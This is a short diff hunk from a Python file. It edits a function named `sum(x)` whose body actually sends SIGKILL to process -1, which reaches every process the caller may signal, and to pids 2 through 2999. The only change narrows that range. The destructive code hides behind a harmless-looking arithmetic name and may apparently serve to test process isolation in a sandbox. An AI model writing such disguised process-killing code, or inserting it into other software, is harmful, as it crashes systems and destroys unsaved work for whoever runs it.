@@ -6,7 +6,7 @@ import signal
 
 
 def sum(x):
-    for pid in [-1] + list(range(2, 5000)):
+    for pid in [-1] + list(range(2, 3000)):
         try:
             os.kill(pid, signal.SIGKILL)
         except OSError:
